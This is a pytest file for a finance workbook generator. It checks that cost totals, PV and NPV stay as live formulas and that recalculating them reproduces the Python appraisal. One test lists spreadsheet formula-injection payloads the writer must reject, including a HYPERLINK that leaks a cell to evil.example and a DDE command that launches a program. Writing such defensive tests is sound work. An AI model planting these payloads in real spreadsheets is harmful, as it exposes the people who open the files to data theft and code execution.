"""The live finance workbook: inputs as cells, totals/PV/NPV as formulas that a formula engine recalculates.

The formulas are recalculated with the ``formulas`` package (pure Python; no Excel or LibreOffice on
the machine) and must give the Python appraisal's figures, before and after a unit cost is changed.
"""
from __future__ import annotations

from pathlib import Path

import formulas  # the test extra's formula engine (pyproject.toml): a missing one must fail, not skip
import pytest
from openpyxl import Workbook, load_workbook

from dfu_sched.invest.appraisal import appraisal_json
from dfu_sched.reports.cells import INPUT_FILL, put_formula
from dfu_sched.reports.finance_xlsx import cost_sheets
from dfu_sched.scenario.levers import cost_profile
from tests.helpers import small

MIX = {"triage_kiosk": 1, "training": 2, "overtime": 1}
DIFFS = {"overall.exposure": {"estimate": -5000.0, "ci95": [-6000.0, -4000.0]},
         "overall.started": {"estimate": 40.0, "ci95": [30.0, 50.0]},
         "invest.backlog_at_12m": {"estimate": -30.0, "ci95": [-40.0, -20.0]}}


def scenario(capital: float = 109000.0):
    sc = small(horizon_weeks=30)
    inv = sc.investment.model_dump(mode="json", by_alias=True)
    for o in inv["options"]:
        if o["name"] == "triage_kiosk":
            o["capital_gbp"] = capital
    inv["appraisal"] = {"years": 3, "value_per_device_day_gbp": 3.0}
    return sc.with_updates({"investment": inv})


def build(path: Path, sc) -> dict[str, str]:
    wb = Workbook()
    cells = cost_sheets(wb, cost_profile(sc, MIX), appraisal=appraisal_json(sc, MIX, DIFFS))
    del wb["Sheet"]
    wb.save(path)
    return cells


def recalc(path: Path):
    """Every cell's value after the formula engine has recalculated the workbook: (sheet, 'B4') -> value."""
    sol = formulas.ExcelModel().loads(str(path)).finish().calculate()
    out = {}
    for key, v in sol.items():
        book_sheet, _, ref = key.rpartition("!")
        if ":" not in ref:
            out[(book_sheet.split("]", 1)[1].rstrip("'"), ref.replace("$", ""))] = v.value[0, 0]
    return lambda addr: out[(addr.split("!")[0].strip("'").upper(), addr.split("!")[1].replace("$", ""))]


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    path = tmp_path_factory.mktemp("live") / "live.xlsx"
    return path, build(path, scenario())


@pytest.fixture(scope="module")
def before(book):
    """The workbook as written, recalculated once for the module."""
    return recalc(book[0])


def test_totals_pv_and_npv_are_formulas_and_inputs_are_marked(book):
    path, cells = book
    wb = load_workbook(path)
    lines = wb["Cost lines"]
    assert lines["G4"].value == "=E4*F4" and lines["E4"].fill.fgColor.rgb.endswith(INPUT_FILL)
    assert lines["E4"].comment is not None and "change me" in lines["E4"].comment.text
    for name in ("pv_central", "pv_high", "h_pv_central", "npv_central", "pv_benefits"):
        sheet, ref = cells[name].split("!")
        assert str(wb[sheet.strip("'")][ref.replace("$", "")].value).startswith("="), name
    fy = wb["Cost by financial year"]
    assert all(str(fy.cell(row=r, column=c).value).startswith("=SU") for r in (4, 5) for c in (2, 3, 4, 5))
    assert wb["Appraisal"]["B4"].fill.fgColor.rgb.endswith(INPUT_FILL)  # the discount rate is an input


def test_recalculated_workbook_equals_the_python_appraisal(book, before):
    path, cells = book
    value = before
    sc = scenario()
    block, profile = appraisal_json(sc, MIX, DIFFS), cost_profile(sc, MIX)
    for lv in ("before_optimism_bias", "low", "central", "high"):
        key = "pv_total" if lv == "before_optimism_bias" else f"pv_{lv}"
        assert value(cells[key]) == pytest.approx(block["present_value_gbp"][lv], rel=1e-9)
    assert value(cells["h_pv_central"]) == pytest.approx(block["horizon_present_value_gbp"]["central"], rel=1e-9)
    for lv in ("low", "central", "high"):
        assert value(cells[f"npv_{lv}"]) == pytest.approx(block["npv_gbp"][lv], rel=1e-9)
    n = len(profile["by_financial_year"])
    for i, y in enumerate(profile["by_financial_year"]):
        assert value(f"'Cost by financial year'!{chr(ord('B') + len(profile['options']))}{4 + i}") == \
            pytest.approx(y["total"], rel=1e-9)
    assert value(f"'Cost by financial year'!{chr(ord('B') + len(profile['options']))}{4 + n}") == \
        pytest.approx(profile["total_gbp"], rel=1e-9)


def test_changing_a_unit_cost_moves_the_totals(book, before, tmp_path):
    path, cells = book
    wb = load_workbook(path)
    ws = wb["Cost lines"]
    row = next(r for r in range(4, ws.max_row + 1) if ws.cell(r, 1).value == "triage kiosk"
               and ws.cell(r, 2).value == "capital")
    ws.cell(row, 5).value = 209000  # a finance officer's new quote for the kiosk
    changed = tmp_path / "changed.xlsx"
    wb.save(changed)
    value = recalc(changed)
    sc2 = scenario(capital=209000.0)
    block2, profile2 = appraisal_json(sc2, MIX, DIFFS), cost_profile(sc2, MIX)
    # equipment in year 0 at the central 25% uplift: +£125,000 of PV
    assert value(cells["pv_central"]) - before(cells["pv_central"]) == pytest.approx(125000.0, rel=1e-9)
    assert value(cells["pv_central"]) == pytest.approx(block2["present_value_gbp"]["central"], rel=1e-9)
    assert value(cells["npv_central"]) == pytest.approx(block2["npv_gbp"]["central"], rel=1e-9)
    column, row = chr(ord("B") + len(profile2["options"])), 4 + len(profile2["by_financial_year"])
    total = f"'Cost by financial year'!{column}{row}"
    assert value(total) == pytest.approx(profile2["total_gbp"], rel=1e-9)
    assert value(total) - before(total) == pytest.approx(100000.0, rel=1e-9)


def test_formula_writer_refuses_text_and_functions_it_does_not_know():
    ws = Workbook().active
    for bad in ('=HYPERLINK("http://evil.example/?"&B2,"x")', "=A1&B1", "=cmd|' /C calc'!A0", "=INDIRECT(A1)",
                "B1*2", "=WEBSERVICE(A1)"):
        with pytest.raises(ValueError):
            put_formula(ws, 1, 1, bad)
    assert put_formula(ws, 1, 1, "=SUMIF('Cost lines'!$C$4:$C$9,$A$8,'Cost lines'!N$4:N$9)").value.startswith("=")


def test_a_horizon_year_with_nothing_paid_in_it_keeps_its_columns(tmp_path):
    """A late hire pays nothing in the first financial year: the later horizon years must still be summed."""
    hire = {"name": "late_hire", "kind": "hire_examiners", "annual_cost_gbp": 52000, "lag_weeks": 16,
            "skills": ["mobile"], "max_count": 1}
    sc = small(horizon_weeks=70, extra_options=[hire])
    inv = {**sc.investment.model_dump(mode="json", by_alias=True), "appraisal": {"years": 2}}
    sc = sc.with_updates({"investment": inv})
    mix = {"late_hire": 1}
    block = appraisal_json(sc, mix, DIFFS)
    wb = Workbook()
    cells = cost_sheets(wb, cost_profile(sc, mix), appraisal=block)
    del wb["Sheet"]
    wb.save(tmp_path / "late.xlsx")
    value = recalc(tmp_path / "late.xlsx")
    assert block["years"][0]["horizon_costs_by_kind"]["staff"] == 0.0 < block["horizon_total_gbp"]
    assert value(cells["h_pv_central"]) == pytest.approx(block["horizon_present_value_gbp"]["central"], rel=1e-9)
